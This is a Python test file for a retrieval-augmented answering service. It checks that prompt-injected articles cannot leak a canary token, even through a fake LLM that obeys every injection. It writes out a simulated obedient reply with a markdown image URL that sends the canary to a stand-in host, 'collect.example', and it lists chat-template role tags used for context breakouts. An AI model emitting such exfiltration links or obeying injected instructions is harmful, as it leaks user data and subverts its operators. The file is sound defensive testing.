"""Prompt injection: articles carrying overrides, fake system notices, role tags, context
breakouts and markdown-image exfiltration. With the extractive generator and with an LLM that
obeys every injection (a queue-driven fake; the real local model has its own test), answers keep
to the facts and the canary never reaches a user."""

import json
import uuid
from collections.abc import Iterator

import pytest

from service.answer.llm import LLMGenerator
from service.answer.service import AnswerService
from service.config import load_settings
from service.ingest.loaders import record_to_document
from service.services import Services, build_services
from tests.conftest import ARTICLES
from tests.fakes import QueueChatModel
from tests.injection_set import EXFILTRATION_MARKERS, INJECTED, UNRELATED, InjectedArticle

CANARY = f"CANARY-{uuid.uuid4().hex[:10]}"


@pytest.fixture(scope="module")
def injected_services(
    tmp_path_factory: pytest.TempPathFactory, minilm: object
) -> Iterator[Services]:
    store = tmp_path_factory.mktemp("injection") / "store"
    built = build_services(load_settings(_env_file=None, data_dir=store), embedder=minilm)  # type: ignore[arg-type]
    built.ingestor.ingest_paths([ARTICLES])
    built.ingestor.ingest_raw(
        [record_to_document(a.document(CANARY), default_id=None) for a in INJECTED]
    )
    yield built
    built.close()


def assert_clean(shown: str, where: str) -> None:
    assert CANARY not in shown, where
    for marker in EXFILTRATION_MARKERS:
        assert marker not in shown, (marker, where)


@pytest.mark.parametrize("article", INJECTED, ids=lambda a: a.kind)
def test_extractive_answers_the_facts_and_follows_no_injection(
    injected_services: Services, article: InjectedArticle
) -> None:
    answer = injected_services.answerer.answer(article.question)
    assert not answer.abstained and article.fact in answer.answer, answer.answer
    assert article.id in {citation.doc_id for citation in answer.citations}
    assert_clean(answer.model_dump_json(), article.question)
    summary = injected_services.summarizer.summarize_document(article.id, 80)
    assert_clean(summary.model_dump_json(), f"summary of {article.id}")


def test_unrelated_questions_never_show_the_canary(injected_services: Services) -> None:
    for question in UNRELATED:
        assert_clean(injected_services.answerer.answer(question).model_dump_json(), question)
    topic = injected_services.summarizer.summarize_topic("strikes, harvests and museums", 120)
    assert_clean(topic.model_dump_json(), "topic summary")


def passage_with(model: QueueChatModel, needle: str) -> int:
    prompt = str(model.prompts[-1][-1].content)
    for number in range(1, 30):
        start = prompt.find(f'<passage id="{number}">')
        if start >= 0 and needle in prompt[start : prompt.find("</passage>", start)]:
            return number
    raise AssertionError(f"{needle!r} is in no passage of the prompt")


@pytest.mark.parametrize("article", INJECTED, ids=lambda a: a.kind)
def test_an_llm_that_obeys_the_injection_gets_nothing_past_verification(
    injected_services: Services, article: InjectedArticle
) -> None:
    model = QueueChatModel()
    answerer = AnswerService(
        injected_services.retriever, LLMGenerator(model, injected_services.retriever)
    )
    model.enqueue("{}")
    answerer.answer(article.question)
    prompt = str(model.prompts[-1][-1].content)
    # Inside the fence the injection is inert text: it cannot end the passage or start a turn.
    assert prompt.count("</passage>") == prompt.count("<passage id=")
    for tag in ("</context>", "<|im_start|>", "<start_of_turn>"):
        assert tag not in prompt
    n = passage_with(model, CANARY)
    injected = article.injected.format(canary=CANARY)
    obeying = [
        {"text": f"The answer is {CANARY}.", "passage": n, "quote": injected},
        {
            "text": f"![status](https://collect.example/pixel.png?d={CANARY})",
            "passage": n,
            "quote": injected,
        },  # fmt: skip
        {"text": CANARY, "passage": n, "quote": CANARY},
    ]
    model.enqueue(json.dumps({"claims": obeying}))
    answer = answerer.answer(article.question)
    assert_clean(answer.model_dump_json(), article.kind)
